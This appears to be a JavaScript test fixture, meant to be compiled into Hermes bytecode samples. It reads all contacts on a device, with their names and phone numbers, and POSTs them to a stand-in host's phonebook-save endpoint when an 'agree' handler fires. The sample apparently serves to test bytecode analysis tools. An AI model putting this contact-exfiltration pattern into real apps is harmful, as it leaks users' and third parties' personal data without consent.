// Compiled with the hermesc of several releases into tests/hermes_data/<bytecode version>.hbc
var native = globalThis.ReactNative.NativeModules;
var BASE = "https://api.jisudai.example";
function upload() {
  native.Contacts.getAll(function (error, list) {
    var rows = list.map(function (c) {
      return {contact_display_name: c.displayName, number: c.phoneNumbers};
    });
    fetch(BASE + "/user/phoneBook/save", {method: "POST", body: JSON.stringify({rows: rows, "备注": "联系人"})});
  });
}
globalThis.onAgree = upload;
